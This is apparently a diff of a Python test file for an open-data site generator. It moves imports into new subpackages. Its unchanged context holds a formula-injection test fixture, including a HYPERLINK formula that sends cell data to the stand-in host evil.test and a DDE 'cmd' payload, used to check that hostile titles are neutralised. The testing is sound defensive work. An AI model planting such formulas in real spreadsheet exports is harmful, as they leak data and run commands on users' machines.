@@ -11,9 +11,9 @@ import re
 import feedparser
 import pytest
 
-from qinqing.loader import load
-from qinqing.opendata import COLLECTIONS
-from qinqing.validation import check
+from qinqing.ingest.loader import load
+from qinqing.ingest.validation import check
+from qinqing.pages.opendata import COLLECTIONS
 
 from conftest import DATA, build_site, copy_project
 
@@ -188,9 +188,9 @@ import xml.etree.ElementTree as ET  # noqa: E402
 
 import yaml  # noqa: E402
 
-from qinqing import opendata  # noqa: E402
-from qinqing.model import Localized  # noqa: E402
-from qinqing.site import ui_strings  # noqa: E402
+from qinqing.ingest.model import Localized  # noqa: E402
+from qinqing.pages import opendata  # noqa: E402
+from qinqing.pages.site import ui_strings  # noqa: E402
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 FORMULAS = ['=HYPERLINK("https://evil.test/?"&A1,"click")', "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)",
@@ -334,7 +334,7 @@ def test_hostile_titles_round_trip_through_the_published_json():
 
 # --- faithfulness in the open data: open lists, inferred references, every passage, every language
 
-from qinqing import languages  # noqa: E402
+from qinqing.i18n import languages  # noqa: E402
 
 OPEN_END = {"zh": "等", "en": ", among others"}
 
